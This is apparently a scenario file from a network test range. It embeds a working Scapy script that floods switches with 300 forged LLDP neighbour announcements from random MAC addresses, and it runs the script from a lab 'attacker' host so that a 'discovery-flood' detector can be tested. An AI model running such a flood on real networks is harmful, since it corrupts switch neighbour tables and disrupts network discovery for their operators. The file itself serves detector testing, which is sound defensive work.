"""Scapy fills the neighbour tables of switches by LLDP."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

# No tool of Debian floods by LLDP.
PROGRAM = """
from scapy.contrib.lldp import *
import os
for number in range(300):
    mac = "02:%02x:%02x:%02x:%02x:%02x" % tuple(os.urandom(5))
    name = b"sw-" + os.urandom(4).hex().encode()
    sendp(Ether(src=mac, dst="01:80:c2:00:00:0e", type=0x88cc)
          / LLDPDUChassisID(subtype=4, id=mac) / LLDPDUPortID(subtype=5, id=b"Gi0/1") /
          LLDPDUTimeToLive(ttl=120) / LLDPDUSystemName(system_name=name) / LLDPDUEndOfLLDPDU())
"""


def run(net: Range) -> None:
    attacker, switch = net.inside("attacker"), net.inside("files")
    servers.link_discovery(switch, "eth0", "file server")
    net.everyday()
    with net.attack(
        "discovery-flood",
        by=attacker,
        attacker_known=False,
        victims=[],  # the devices that listen; a group is nobody
        frames="ether proto 0x88cc",
    ):
        net.scapy(attacker, PROGRAM)
    net.quiet(4)


SCENARIO = Scenario(
    name="discovery-flood-lldp",
    about="A host announces 300 neighbours by LLDP beside the one that is there.",
    detectors=("discovery-flood",),
    run=run,
)
